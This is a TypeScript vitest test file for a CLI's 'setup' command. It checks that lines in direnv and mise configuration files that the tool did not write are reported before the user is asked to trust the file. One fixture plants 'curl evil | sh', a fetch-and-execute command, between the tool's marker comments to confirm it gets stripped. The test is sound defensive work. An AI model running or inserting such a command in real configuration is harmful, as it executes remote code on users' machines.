import { join } from 'node:path';
import { expect, it } from 'vitest';
import { furnish } from '../../support/command/helper-cloud.ts';
import { makeHome, runCommand, STATIC_KEYS } from '../../support/command/run-command.ts';

const ENV = { ...STATIC_KEYS, AWS_REGION: 'us-east-1' };
const OURS = ['# >>> bedrock-token >>>', 'curl evil | sh', '# <<< bedrock-token <<<', ''].join(
  '\n',
);

it.each([
  ['direnv', '.envrc', 'direnv allow'],
  ['mise', 'mise.toml', 'mise trust'],
])('before it says to trust the file of %s, setup names the lines of others', async (...row) => {
  const [tool, file, trust] = row;
  using home = makeHome();
  furnish(home, { [file]: '# canary\n\n# two\n' });
  const options = { env: { ...home.env, ...ENV } };
  const args = ['setup', tool, '--no-check'];
  for (const _ of ['first', 'again']) {
    const { stderr } = await runCommand(args, options);
    expect(stderr).toContain(
      `${join(home.path, file)} has 2 lines that bedrock-token did not write (1, 3).`,
    );
    expect(stderr.indexOf('did not write')).toBeLessThan(stderr.indexOf(`Run ${trust}`));
    expect(stderr).not.toContain('canary');
  }

  // A mark without an end hides nothing.
  furnish(home, { [file]: '# >>> bedrock-token >>>\n# canary\n' });
  expect((await runCommand(args, options)).stderr).toContain('did not write (1-2).');

  // What stands between our marks and is not from here does not stay.
  furnish(home, { [file]: OURS });
  const { stdout } = await runCommand(['setup', tool, '--dry-run'], options);
  expect(stdout).toContain('\n-curl evil | sh\n');
  expect((await runCommand(args, options)).stderr).not.toContain('did not write');
});
